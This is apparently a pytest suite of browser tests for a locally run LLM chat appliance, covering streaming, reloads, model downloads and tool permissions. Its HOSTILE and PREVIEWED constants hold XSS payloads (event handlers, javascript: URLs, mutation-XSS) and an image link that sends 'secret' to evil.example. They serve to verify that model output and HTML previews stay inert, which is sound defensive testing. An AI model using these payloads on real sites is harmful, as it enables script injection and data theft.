"""The page in a real browser, against the installed program: `tests/web/scenarios` says what is done there."""

from __future__ import annotations

import ctypes
import json
import os
import select
import socket
import subprocess
import sys
import urllib.request
from collections.abc import Callable
from pathlib import Path

import pytest
from gguf_files import write_model
from hub_process import FakeHub
from page_fixtures import SIZE, Play, ServeFake, in_both
from program import StartServer, http
from waiting import wait

from appliance.engines.embedded import available
from appliance.engines.found import EMBEDDED, ENGINE_VARIABLE

ROOT = Path(__file__).resolve().parents[2]
COUNTING = {"FAKE_TOKENS": "400", "FAKE_TOKEN_DELAY": "0.05"}
DEEP = ">" * 10_000
HOSTILE = f"""<script>window.hit = 1</script>

<img src=x onerror="window.hit=1"> <svg onload="window.hit=1"><animate attributeName=href></svg>

![picture](https://evil.example/p.png?q=secret) [click](javascript:window.hit=1) [data](data:text/html,<script>)

[good](https://example.org/a) <javascript:alert(1)> <iframe srcdoc="<script>parent.hit=1</script>"></iframe>

turned \u202eround \x1b[31mred\x1b[0m **half

$$x^2 \\href{{javascript:alert(1)}}{{y}}$$

{DEEP} deep

```python
def f(): return "<b>"
```

{"a" * 60_000}

[ref][x] &#106;avascript:alert(1) [entity](&#106;avascript:hit) [tab](java\tscript:hit) [vb](vbscript:hit) [f](file:///etc)

{"[" * 2000}{"**" * 2000}{"`" * 40_000}

{"- " * 5000} list

| a | b
|--|--
| <img src=x onerror=hit=1> | half

> quote **without an end

~~~html
<script>window.hit = 1</script>
[x]: javascript:hit
"""
PREVIEWED = """```html
<!doctype html>
<html lang="en" manifest="ELSEWHERE/manifest">
<head>
<title>A page</title>
<meta http-equiv="refresh" content="0; url=ELSEWHERE/refresh">
<meta http-equiv="x-dns-prefetch-control" content="on">
<meta http-equiv="Content-Security-Policy" content="default-src 'self'; report-uri ELSEWHERE/report">
<base href="ELSEWHERE/">
<link rel="preconnect" href="ELSEWHERE"><link rel="dns-prefetch" href="//NAME">
<link rel="prefetch" href="ELSEWHERE/prefetch"><link rel="preload" as="image" href="ELSEWHERE/preload">
<link rel="modulepreload" href="ELSEWHERE/module"><link rel="stylesheet" href="ELSEWHERE/style">
<link rel="icon" href="ELSEWHERE/icon"><link rel="manifest" href="ELSEWHERE/manifest">
<script type="speculationrules">{"prerender": [{"urls": ["ELSEWHERE/rules"]}]}</script>
<style>
@import "ELSEWHERE/import"; @import url(ELSEWHERE/import2);
@font-face { font-family: f; src: url(ELSEWHERE/font); }
h1 { color: rgb(1, 2, 3); font-family: f; background: url(ELSEWHERE/background); cursor: url(ELSEWHERE/cursor), auto; }
p { list-style: url(ELSEWHERE/list); content: url(ELSEWHERE/content); mask: url(ELSEWHERE/mask#m); }
p::before { content: image-set("ELSEWHERE/set" 1x); } b { filter: url(ELSEWHERE/filter#f); }
@namespace svg url(ELSEWHERE/namespace);
</style>
</head>
<body background="ELSEWHERE/body" onload="reach('onload')">
<h1>A page</h1><p>text</p><b>bold</b><a id="inner" href="#inner">inside</a>
<a href="ELSEWHERE/link" ping="ELSEWHERE/ping" target="_top">link</a> <a href="//NAME/">name</a>
<a href="javascript:reach('link')">script</a> <a href="data:text/html,<script>opener.hit=1</script>">data</a>
<map name="m"><area href="ELSEWHERE/area" shape="default"></map>
<img alt="1" usemap="#m" src="ELSEWHERE/image" srcset="ELSEWHERE/set 2x" lowsrc="ELSEWHERE/low"
longdesc="ELSEWHERE/long">
<img alt="2" src="x" onerror="reach('onerror')"><img alt="5" src="//NAME/image">
<picture><source srcset="ELSEWHERE/source"><img alt="3"></picture>
<video src="ELSEWHERE/video" poster="ELSEWHERE/poster" autoplay></video><audio src="ELSEWHERE/audio" autoplay></audio>
<track src="ELSEWHERE/track"><input type="image" alt="4" src="ELSEWHERE/input"><embed src="ELSEWHERE/embed">
<object data="ELSEWHERE/object"><param name="movie" value="ELSEWHERE/param"></object>
<applet archive="ELSEWHERE/a"></applet>
<iframe src="ELSEWHERE/iframe"></iframe><iframe srcdoc="<link rel=preconnect href=ELSEWHERE>"></iframe>
<frameset><frame src="ELSEWHERE/frame"></frameset><fencedframe src="ELSEWHERE/fenced"></fencedframe>
<form id="f" action="ELSEWHERE/form" method="post"><input name="q" autofocus onfocus="this.form.submit()">
<button formaction="ELSEWHERE/button">send</button></form><button form="f" formaction="ELSEWHERE/other">other</button>
<svg width="9" height="9"><image href="ELSEWHERE/svg"/><use href="ELSEWHERE/use#u"/><feImage href="ELSEWHERE/fe"/>
<a href="ELSEWHERE/svglink"><text y="9">t</text></a><script href="ELSEWHERE/svgscript"></script>
<animate attributeName="href" to="ELSEWHERE/animate" begin="0s"/><set attributeName="href" to="ELSEWHERE/set"/>
<foreignObject><iframe src="ELSEWHERE/foreign"></iframe></foreignObject>
<style>@import "ELSEWHERE/svgstyle";</style></svg>
<math><mi href="ELSEWHERE/math">x</mi>
<annotation-xml encoding="text/html"><img src="ELSEWHERE/mathimage"></annotation-xml></math>
<template shadowrootmode="open"><link rel="preconnect" href="ELSEWHERE"></template>
<noscript><p title="</noscript><img src=ELSEWHERE/noscript>"></noscript>
<form><math><mtext></form><form><mglyph><style></math><img src="ELSEWHERE/mutated" onerror="reach('mutated')">
<table background="ELSEWHERE/table"><tr><td background="ELSEWHERE/td">cell</td></tr></table>
<blockquote cite="ELSEWHERE/cite">q</blockquote><p style="background: url(ELSEWHERE/inline)">styled</p>
<script src="ELSEWHERE/script"></script>
<script>
const reach = (what) => {
  document.documentElement.dataset.ran = what;
  fetch("ELSEWHERE/fetch").catch(() => 0); fetch("http://NAME/fetch").catch(() => 0);
  navigator.sendBeacon("ELSEWHERE/beacon");
  new WebSocket("ELSEWHERE/socket".replace("http", "ws")); new EventSource("ELSEWHERE/events");
  document.head.append(Object.assign(document.createElement("link"), { rel: "preconnect", href: "ELSEWHERE" }));
  const call = new RTCPeerConnection({ iceServers: [{ urls: "stun:PLACE" }] });
  call.createDataChannel("x"); call.createOffer().then((offer) => call.setLocalDescription(offer));
  window.open("ELSEWHERE/open"); top.location = "ELSEWHERE/top";
};
reach("script");
</script>
</body></html>
```
"""
"""The ways from markup, styles and scripts to another host: a request, a connection, or the look for its name."""
RIGHT_TO_LEFT = (
    "مرحبا، هذا **نص** طويل بما يكفي ليملأ السطر كله.\n\n```python\ndef f(): return 'x'\n```\n\n" + "שלום עולם " * 40
)
CODE = "```python\ndef f(): return 1\n```"
LAN = "192.0.2.1"
CLONE_NEWNET = 0x40000000


@pytest.mark.parametrize("scenario", ["talking.chat", "screens.screens", "talking.compact"])
def test_with_the_starter_model(play: Play, start_server: StartServer, scenario: str) -> None:
    if not available():
        pytest.skip("the embedded engine is not on this machine")
    words = ("serve", "--listen", "127.0.0.1:0", "--engine", EMBEDDED, "--threads", "1", "--no-stores")
    play(scenario, start_server(*words))


def test_an_answer_goes_on_through_a_reload_and_is_stopped_from_another_device(
    play: Play, serve_fake: ServeFake
) -> None:
    play("talking.resume", serve_fake(**COUNTING))


@in_both
def test_an_answer_is_complete_though_the_page_was_closed(play: Play, serve_fake: ServeFake) -> None:
    play("talking.closed", serve_fake(FAKE_TOKENS="60", FAKE_TOKEN_DELAY="0.05"))


def test_the_page_outlives_a_killed_program(play: Play, serve_fake: ServeFake) -> None:
    server = serve_fake(FAKE_TOKENS="200", FAKE_TOKEN_DELAY="0.05")
    place = f"{server.host}:{server.port}"

    def kill() -> None:
        server.process.kill()
        server.process.wait(10)

    play("talking.killed", server, kill=kill, start=lambda: serve_fake(listen=place))


def test_the_page_outlives_a_killed_engine(play: Play, serve_fake: ServeFake) -> None:
    server = serve_fake(FAKE_TOKENS="200", FAKE_TOKEN_DELAY="0.05")

    def kill() -> None:
        engines = [child for child in server.children() if "--port" in child.cmdline()]
        assert engines
        for engine in engines:
            engine.kill()

    play("talking.engine", server, kill=kill)


def test_nothing_that_a_model_writes_is_more_than_text(play: Play, serve_fake: ServeFake) -> None:
    play("output.hostile", serve_fake(FAKE_SCRIPT=json.dumps([{"text": HOSTILE}])))


def test_a_preview_of_html_reaches_nothing(
    play: Play, serve_fake: ServeFake, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Not even a connection, or the look for a name; the same HTML outside of the preview does all that."""
    log = tmp_path / "net.json"
    monkeypatch.setenv("BROWSER_ARGS", f"--log-net-log={log}")
    with (
        socket.create_server(("127.0.0.1", 0)) as elsewhere,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams,
    ):
        place = f"127.0.0.1:{elsewhere.getsockname()[1]}"
        datagrams.bind(elsewhere.getsockname())
        elsewhere.setblocking(False)
        datagrams.setblocking(False)

        def nothing() -> None:
            with pytest.raises(BlockingIOError):
                elsewhere.accept()
            with pytest.raises(BlockingIOError):
                datagrams.recv(1)

        def everything() -> None:
            wait(lambda: socket_is_ready(elsewhere) and socket_is_ready(datagrams))

        text = (
            PREVIEWED.replace("ELSEWHERE", f"http://{place}").replace("PLACE", place).replace("NAME", "preview.example")
        )
        play(
            "output.preview",
            serve_fake(FAKE_SCRIPT=json.dumps([{"text": text}])),
            nothing=nothing,
            everything=everything,
        )
    found = log.read_text("utf-8", "replace")
    assert "control.example" in found
    assert "preview.example" not in found


def socket_is_ready(listening: socket.socket) -> bool:
    return bool(select.select([listening], [], [], 0)[0])


def test_a_line_of_a_megabyte_stops_nothing(play: Play, serve_fake: ServeFake) -> None:
    play("talking.long", serve_fake(FAKE_TOKENS="64", FAKE_TOKEN_SIZE=str(1 << 14)))


@in_both
def test_german_and_dark_are_chosen_under_settings(play: Play, serve_fake: ServeFake) -> None:
    play("screens.german", serve_fake())


def test_right_to_left_and_at_double_size(play: Play, serve_fake: ServeFake) -> None:
    play("screens.layouts", serve_fake(FAKE_SCRIPT=json.dumps([{"text": RIGHT_TO_LEFT}])))


def test_below_a_path_of_a_proxy(play: Play, serve_fake: ServeFake) -> None:
    play("screens.prefix", serve_fake())


@pytest.mark.needs("namespaces", "ip", "nsenter")
def test_on_plain_http_without_a_network(play: Play, serve_fake: ServeFake) -> None:
    def cut_off() -> None:
        if ctypes.CDLL(None, use_errno=True).unshare(CLONE_NEWNET):
            raise OSError(ctypes.get_errno(), "unshare")
        subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
        subprocess.run(["ip", "address", "add", f"{LAN}/32", "dev", "lo"], check=True)

    script = json.dumps([{"text": CODE}])
    server = serve_fake("--api-key", "secret", listen=f"{LAN}:0", limited=cut_off, FAKE_SCRIPT=script)
    inside = ("nsenter", f"--net=/proc/{server.process.pid}/ns/net")
    play("screens.lan", server, "--insecure", within=inside)


def test_a_model_is_fetched_and_paused(play: Play, serve_fake: ServeFake, hub: FakeHub, tmp_path: Path) -> None:
    whole = (hub.root / "acme/big-GGUF" / "big-Q8_0.gguf").stat().st_size
    hub.behave(rate=2_000_000)
    server = serve_fake(MODEL_ENDPOINT=hub.url, HF_HUB_CACHE=str(tmp_path / "cache"))

    def paused() -> None:
        assert 0 < hub.sent() < whole

    play("models.pull", server, came=lambda: wait(lambda: hub.sent() > SIZE // 16), paused=paused, fast=hub.behave)
    assert hub.sent() < 2 * whole


@in_both
def test_the_first_model_and_the_first_question(
    play: Play, start_server: StartServer, fake_engine: Path, hub: FakeHub, tmp_path: Path
) -> None:
    words = ("serve", "--listen", "127.0.0.1:0", "--no-starter", "--no-stores")
    env = {ENGINE_VARIABLE: str(fake_engine), "HF_HUB_CACHE": str(tmp_path / "cache"), "MODEL_ENDPOINT": hub.url}
    hub.behave(rate=4_000_000)
    play("models.first", start_server(*words, env=env), coming=hub.behave)


def test_the_first_run_without_a_hub(play: Play, start_server: StartServer, fake_engine: Path) -> None:
    words = ("serve", "--listen", "127.0.0.1:0", "--no-starter", "--no-stores")
    play("models.offline", start_server(*words, env={ENGINE_VARIABLE: str(fake_engine), "HF_HUB_OFFLINE": "1"}))


def test_what_fits_and_a_search_of_the_hub(play: Play, serve_fake: ServeFake, hub: FakeHub, tmp_path: Path) -> None:
    play("models.hub", serve_fake(MODEL_ENDPOINT=hub.url, HF_HUB_CACHE=str(tmp_path / "cache")))


def test_a_large_conversation_and_a_fast_answer(play: Play, serve_fake: ServeFake) -> None:
    """Its figures are in docs/page.md; ``-s`` shows them."""
    play("screens.large", serve_fake(FAKE_TOKENS="20000", FAKE_TOKEN_DELAY="0.005"))


def test_files_and_parameters_reach_the_model(play: Play, serve_fake: ServeFake, tmp_path: Path) -> None:
    write_model(tmp_path / "models" / "watcher" / "watcher.gguf")
    projector = {"clip__has_vision_encoder": True, "clip__has_audio_encoder": True}
    write_model(tmp_path / "models" / "watcher" / "mmproj-F16.gguf", architecture="clip", **projector)
    play("questions.files", serve_fake("--models-dir", "models", FAKE_SCRIPT='[{"echo": true}]'))


def test_parameters_presets_and_commands(play: Play, serve_fake: ServeFake) -> None:
    play("questions.settings", serve_fake())


def test_two_models_answer_side_by_side(play: Play, serve_fake: ServeFake, tmp_path: Path) -> None:
    write_model(tmp_path / "other.gguf")
    play("talking.compare", serve_fake("--model", "other.gguf"))


def test_a_tool_that_writes_is_asked_for(play: Play, serve_fake: ServeFake, tmp_path: Path) -> None:
    note = tmp_path / "files" / "note.txt"
    note.parent.mkdir()

    def call(number: int, name: str, **arguments: str) -> dict[str, object]:
        return {"calls": [{"name": name, "id": f"c{number}", "arguments": json.dumps(arguments)}]}

    script = [
        call(1, "write_file", path="note.txt", content="hi"),
        call(2, "read_file", path="note.txt"),
        call(3, "write_file", path="note.txt", content="again"),
        {"text": "All is written."},
    ]
    tools = ("--tools", "write_file,read_file", "--tools-root", str(note.parent))

    def asked() -> None:
        assert not note.exists()

    def written() -> None:
        assert note.read_text() == "again"
        note.write_text("hi")

    play("questions.tools", serve_fake(*tools, FAKE_SCRIPT=json.dumps(script)), asked=asked, written=written)


def test_prompts_resources_and_tools_of_an_mcp_server(play: Play, serve_fake: ServeFake) -> None:
    call = {"name": "s_echo", "id": "c1", "arguments": '{"message": "hello"}'}
    servers = {"s": {"command": sys.executable, "args": [str(ROOT / "tests" / "fakes" / "mcp_server.py")]}}
    more = ("--mcp-servers-json", json.dumps({"mcpServers": servers}))
    play("questions.mcp", serve_fake(*more, FAKE_SCRIPT=json.dumps([{"calls": [call]}, {"text": "All is said."}])))


def test_a_browser_keeps_what_the_server_does_not(play: Play, serve_fake: ServeFake) -> None:
    play("talking.here", serve_fake("--no-conversations", FAKE_TOKENS="60", FAKE_TOKEN_DELAY="0.05"))


@in_both
def test_a_random_walk_through_the_tree(play: Play, serve_fake: ServeFake, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SEED", os.environ.get("SEED", "7"))
    play("talking.walk", serve_fake(FAKE_TOKENS="12", FAKE_TOKEN_DELAY="0.03"))


def test_a_key_is_asked_for_once(play: Play, serve_fake: ServeFake) -> None:
    play("screens.key", serve_fake("--api-key", "secret"))


@in_both
def test_models_are_loaded_and_unloaded(play: Play, serve_fake: ServeFake) -> None:
    play("models.models", serve_fake())


@pytest.mark.needs("node", "page-packages")
def test_the_development_server_stands_in_front_of_a_running_one(
    serve_fake: ServeFake, free_port: Callable[[], int]
) -> None:
    vite = ROOT / "appliance" / "web" / "node_modules" / ".bin" / "vite"
    server, port = serve_fake(), free_port()
    command = [str(vite), "--host", "127.0.0.1", "--port", str(port), "--strictPort"]
    with subprocess.Popen(
        command,
        cwd=ROOT / "appliance" / "web",
        env={**os.environ, "LLAMA_APPLIANCE_URL": server.url, "NO_COLOR": "1"},
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
    ) as process:
        assert process.stdout is not None
        try:
            while b"Local:" not in (line := process.stdout.readline()):
                assert line, "it has ended"
            # The page, a part of it, which is compiled when it is asked for, and what the server behind it says.
            for path, words in (("/", b"/src/main.ts"), ("/src/App.svelte", b"svelte"), ("/v1/models", b'"small"')):
                with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=60) as answer:
                    assert words in answer.read(), path
        finally:
            process.kill()


def test_every_question_of_the_page_can_be_left(
    play: Play, serve_fake: ServeFake, hub: FakeHub, tmp_path: Path
) -> None:
    server = serve_fake(MODEL_ENDPOINT=hub.url, HF_HUB_CACHE=str(tmp_path / "cache"))
    http(server, "POST", "/models", {"model": "acme/big-GGUF:Q8_0"})

    def kept() -> None:
        assert b"acme/big" in http(server, "GET", "/v1/models").body

    play("questions.dialogs", server, kept=kept)


def test_a_context_is_not_full_after_a_summary(play: Play, serve_fake: ServeFake) -> None:
    play("talking.summed", serve_fake())


def test_a_tools_question_is_noticed_and_not_answered_by_chance(
    play: Play, serve_fake: ServeFake, tmp_path: Path
) -> None:
    note = tmp_path / "files" / "note.txt"
    note.parent.mkdir()
    call = {"name": "write_file", "id": "c1", "arguments": json.dumps({"path": "note.txt", "content": "hi"})}
    script = [{"calls": [call]}, {"text": "Fine."}, {"calls": [{**call, "id": "c2"}]}]

    def asked() -> None:
        assert not note.exists()

    tools = ("--tools", "write_file", "--tools-root", str(note.parent))
    play("questions.permission", serve_fake(*tools, FAKE_SCRIPT=json.dumps(script)), asked=asked)
